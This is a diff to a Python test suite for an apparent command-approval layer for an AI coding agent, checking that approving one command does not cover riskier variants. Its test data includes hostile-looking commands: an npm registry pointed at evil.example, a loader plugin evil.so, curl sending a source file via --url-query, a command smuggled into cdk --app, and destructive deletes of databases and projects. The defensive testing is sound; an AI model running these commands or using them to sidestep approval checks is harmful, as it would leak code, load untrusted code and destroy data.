@@ -144,6 +144,20 @@ def is_said(words: str, command: Command) -> bool:
         ("npx shadcn@latest add x", "npm_config_registry=http://evil.example npx shadcn@latest add x"),
         ("npx shadcn@latest add x", "bunx shadcn@latest add /etc/x"),
         ("npx shadcn@latest add x", "/tmp/bunx shadcn@latest add x"),
+        # What is known of a program holds for its package, however that is called.
+        ("npx supabase start", "npx supabase db reset"),
+        ("npx supabase start", "bunx supabase projects delete x"),
+        ("npx firebase-tools deploy", "npx firebase-tools firestore:delete x"),
+        ("npx firebase-tools projects:list", "npx firebase-tools deploy"),
+        ("uvx twine check x", "uvx twine upload x"),
+        ("npx knex migrate:latest", "NODE_ENV=production npx knex migrate:latest"),
+        ("npx prisma generate", "npx prisma validate --schema /tmp/x"),
+        ("npx prisma generate", "prisma generate"),
+        ("npx wrangler dev", "npx wrangler deploy"),
+        ("vercel logs", "vercel --prod"),
+        ("terraform plan", "terraform plan -out=/etc/x"),
+        ("kubectl diff -f a", "kubectl diff -f a --kubeconfig f"),
+        ("cdk diff", "cdk diff --app 'touch x'"),
         ("npx cowsay hi", "uvx cowsay hi"),
         ("npx cowsay hi", "cowsay hi"),
         ("npx cow.tgz", "bunx cow.tgz"),
@@ -212,7 +226,26 @@ def is_said(words: str, command: Command) -> bool:
         ("gh pr review 1 --comment -b x", "gh pr review 1 -ab x"),
         ("gh pr close 1", "gh pr close 1 -d"),
         ("gh pr edit 1 --title x", "gh pr edit 1 --base release"),
-        # curl: a file in the query, and a server that may send the data on.
+        # Where no row says which options are inert, all of them belong to the yes.
+        ("git remote add up https://e.example/r", "git remote add --mirror=push up https://e.example/r"),
+        ("git remote set-url origin https://e.example/r", "git remote set-url --delete origin https://e.example/r"),
+        ("git worktree add wt dev", "git worktree add wt dev --force"),
+        ("git submodule add https://e.example/r", "git submodule add https://evil.example/r"),
+        ("go mod edit -fmt", "go mod edit -replace=x=../evil"),
+        ("ld a.o -o b", "ld -plugin ./evil.so a.o -o b"),
+        ("docker compose exec web ls", "docker compose --env-file a.env exec web ls"),
+        ("ip link set eth0 up", "ip link set eth0 down"),
+        # What was only tried is not done by the same yes.
+        ("git push --dry-run origin dev", "git push origin dev"),
+        ("git push -n origin dev", "git push origin dev"),
+        ("rake --dry-run db:migrate", "rake db:migrate"),
+        ("nx run app:build --dry-run", "nx run app:build"),
+        ("turbo run build --dry", "turbo run build"),
+        # curl: a file in the query, one that names another server, and a server that may send the data on.
+        (
+            "curl -k -X POST https://localhost:3000/x -d a=1",
+            "curl -k --alt-svc a -X POST https://localhost:3000/x -d a=1",
+        ),
         ("curl -X POST http://localhost:3000/x -d a=1", "curl http://localhost:3000/x --url-query @src/app.py -d a=1"),
         ("curl -X POST http://localhost:3000/x -d a=1", "curl -L http://localhost:3000/x -d a=1"),
         # Options that choose whose file, which account or which server it is, in short as well.
@@ -317,10 +350,16 @@ def test_an_entry_for_a_deletion_is_for_the_project(project: Path, home: Path) -
         ("bd create a -t task", "bd create 'another one' -p 1 --json"),
         ("git push origin dev", "git push -u origin dev"),
         ("npx shadcn@latest add x", "npx shadcn@latest add y --yes"),
+        ("npx supabase start", "npx supabase stop"),
+        ("git push origin dev", "git push --dry-run origin dev"),
+        ("git push -n origin dev", "git push origin dev --dry-run"),
+        ("npx knex migrate:latest", "NODE_ENV=test npx knex migrate:latest"),
+        ("git worktree add wt dev", "git worktree add wt dev"),
         ("npx shadcn@latest add x", "bunx --bun shadcn@latest add y"),
         ("npx shadcn@latest add x", "npm exec -- shadcn@latest add y --yes"),
         ("bun x shadcn@latest add x", "pnpm dlx shadcn@latest add y -w"),
         ("pnpm dlx shadcn@latest add x -C src", "yarn dlx shadcn@latest add y"),
+        ("npx prisma generate", "npx prisma migrate dev --name x"),
         ("uvx cowsay hi", "uvx cowsay ho"),
         ("uv tool run cowsay hi", "pipx run cowsay ho"),
         ("ssh web uptime", "ssh web 'cat /var/log/x | tail -5; df -h'"),
@@ -369,7 +408,7 @@ def test_a_patch_is_read_before_it_is_remembered(project: Path, home: Path) -> N
     place, patch = Place(project, home), project / "x.patch"
     text = "--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
     patch.write_text(text)
-    for command in ("git apply x.patch", "patch -p1 -i x.patch"):
+    for command in ("git apply x.patch", "patch -p1 -i x.patch", "git am -3 x.patch"):
         patch.write_text(text)
         grants = place.approve(command)
         assert place.verdict(command, grants).decision == Decision.ALLOW
@@ -377,7 +416,17 @@ def test_a_patch_is_read_before_it_is_remembered(project: Path, home: Path) -> N
         assert place.verdict(command, grants).decision == Decision.ASK, "another content"
         patch.write_text(text.replace("src/app.py", ".claude/settings.local.json"))
         assert place.verdict(command).decision == Decision.DENY, "its targets are writes"
-    assert place.verdict("patch -p1 < x.patch").decision == Decision.ASK
+    for command in ("patch -p1 < x.patch", "git apply < x.patch", "git am < x.patch"):
+        patch.write_text(text)
+        grants = place.approve(command)
+        assert place.verdict(command, grants).decision == Decision.ALLOW
+        patch.write_text(text.replace("x = 2", "x = 3"))
+        assert place.verdict(command, grants).decision == Decision.ASK, "another content"
+        patch.write_text(text.replace("src/app.py", ".claude/settings.local.json"))
+        assert place.verdict(command).decision == Decision.DENY, "its targets are writes"
+    assert place.verdict("git am --continue").decision == Decision.ASK
+    patch.write_text(f"Subject: x\nContent-Transfer-Encoding: base64\n\n{text}")
+    assert "is not known" in str([f.reason for f in place.verdict("git am x.patch").findings])
 
 
 def test_a_directory_of_many_programs_is_not_remembered_as_a_place(project: Path, home: Path) -> None:
